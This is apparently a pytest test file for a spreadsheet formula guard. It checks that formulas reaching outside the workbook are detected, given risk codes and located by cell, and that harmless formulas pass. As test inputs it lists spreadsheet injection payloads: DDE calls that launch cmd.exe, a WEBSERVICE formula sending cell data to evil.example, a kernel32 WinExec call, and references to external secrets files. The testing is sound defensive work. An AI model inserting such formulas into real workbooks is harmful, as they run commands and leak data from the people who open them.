"""Formulas that reach outside the workbook are found, located, and told apart from safe ones."""

from __future__ import annotations

from pathlib import Path

import pytest

from jobzone.workbooks.guard.formula_risks import formula_hazards, formula_risk_notices
from jobzone.workbooks.reader import open_workbook
from tests.hostile_corpus import CASES, write_corpus


@pytest.mark.parametrize(("formula", "codes"), [
    ("=cmd|' /C calc'!A0", ["JZ031"]),
    ("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", ["JZ031"]),
    ("=[1]Sheet1!A1", ["JZ030"]),
    ("=[1]!Price", ["JZ030"]),
    ("='C:\\secrets\\[pay.xlsx]Sheet 1'!A1", ["JZ030"]),
    ("='../sec/[secret.xlsx]Sheet1'!A1+1", ["JZ030"]),
    ("=INDIRECT(\"'/srv/[pay.xlsx]Sheet1'!A1\")", ["JZ030"]),
    ('=INDIRECT("Sheet2!A1")', []),               # a reference in this workbook
    ('=WEBSERVICE("http://evil.example/?"&A1)', ["JZ033"]),
    ("=_xlfn.WEBSERVICE(A1)", ["JZ033"]),
    ('=hyperlink("http://evil.example","x")', ["JZ033"]),
    ("=RTD(\"prog.id\",,\"x\")", ["JZ033"]),
    ('=CALL("kernel32","WinExec","JCJ","calc",0)', ["JZ033"]),
    ('=IMPORTXML("http://x","//a")', ["JZ033"]),
    ("=SUM(A1:A3)", []),
    ('="a|b"&A1', []),                         # a pipe inside a string is text
    ("='a|b'!A1", []),                         # and inside a quoted sheet name, a name
    ('="[1]Sheet1!A1"', []),                   # an external-looking string is text
    ("=SUM(Table1[Col])+Sheet2!A1", []),       # a structured reference is not external
    ("=MYHYPERLINK(1)", []),                   # a longer name is another function
    ("=ROUND(ROUND(RawScore,ExactDecimals),1)", []),
])
def test_formula_hazards(formula: str, codes: list[str]) -> None:
    assert [code for code, _ in formula_hazards(formula)] == codes


def test_the_canonical_formulas_are_all_safe(example_copy: Path) -> None:
    assert formula_risk_notices(open_workbook(example_copy), str(example_copy)) == []


@pytest.mark.parametrize("case", [c for c in CASES if "formula" in c.name and c.notices],
                         ids=lambda c: c.name)
def test_a_hazardous_formula_is_reported_at_its_cell(case: object, tmp_path: Path) -> None:
    path = write_corpus(tmp_path, (case,))[case.name]  # type: ignore[attr-defined]
    notices = formula_risk_notices(open_workbook(path), str(path))
    assert [(n.code, n.location.sheet, n.location.cell) for n in notices] == \
        [(case.notices[0], "Notes", "D40")]  # type: ignore[attr-defined]
    assert "never follows or runs it" in notices[0].message


def test_defined_names_are_scanned_too(example_copy: Path) -> None:
    from openpyxl.workbook.defined_name import DefinedName

    workbook = open_workbook(example_copy)
    workbook.defined_names["Leak"] = DefinedName("Leak", attr_text="'C:\\x\\[pay.xlsx]S'!$A$1")
    notices = formula_risk_notices(workbook, "x.xlsx")
    assert [(n.code, n.location.sheet) for n in notices] == [("JZ030", None)]
    assert "defined name 'Leak'" in notices[0].message
